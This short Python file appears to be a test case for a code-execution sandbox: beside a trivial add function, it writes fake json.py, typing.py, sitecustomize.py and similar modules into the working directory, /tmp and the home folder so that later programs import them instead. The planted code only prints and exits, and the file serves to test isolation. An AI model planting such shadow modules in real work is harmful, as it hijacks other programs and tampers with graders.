# what: leaves json.py, typing.py and others where the next may import them
# want: some
# unsafe: either
import os

code = 'print("ran the module of another program")\nraise SystemExit(0)\n'
for name in ('json', 'typing', 'random', 'checker', 'sitecustomize', 'string'):
  for folder in ('.', '/tmp', os.path.expanduser('~')):
    try:
      with open(f'{folder}/{name}.py', 'w') as file:
        file.write(code)
    except OSError:
      pass


def add(a, b):
  return a + b
